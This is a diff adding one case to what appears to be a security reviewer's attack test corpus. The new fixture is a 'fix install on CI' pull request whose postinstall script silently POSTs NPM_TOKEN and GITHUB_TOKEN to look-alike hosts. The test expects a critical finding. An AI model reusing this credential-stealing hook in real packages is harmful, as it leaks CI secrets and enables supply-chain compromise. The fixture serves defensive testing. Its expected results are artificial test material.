@@ -7629,4 +7629,34 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['suspicious-network-endpoint'] },
   },
+  {
+    id: 'attack-npm-token-to-npmjs-look-alike-host',
+    description:
+      'Modeled on the npm and GitHub Actions credential stealers of 2024-2026 that post to hosts named after the service: a "fix install on CI" PR adds a postinstall helper that posts NPM_TOKEN to npmjs-cdn-status.com and GITHUB_TOKEN to github-actions-cache.net, look-alikes whose extra words (the glued `js`, `actions`) were outside the dressing list, so both were taken for npm\'s and GitHub\'s own hosts.',
+    fixture: () =>
+      attackPr({
+        repo: 'pkg-utils',
+        number: 74002,
+        title: 'fix: install on CI',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'scripts/postinstall.js',
+            base: lines("'use strict';", "console.log('installed');"),
+            head: lines(
+              "'use strict';",
+              "console.log('installed');",
+              '',
+              'async function warm() {',
+              "  await fetch('https://npmjs-cdn-status.com/v2/warm', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) }).catch(() => {});",
+              "  await fetch('https://github-actions-cache.net/v2/warm', { method: 'POST', body: JSON.stringify({ t: process.env.GITHUB_TOKEN }) }).catch(() => {});",
+              '}',
+              '',
+              'warm();',
+            ),
+          },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['suspicious-network-endpoint'] },
+  },
 ];
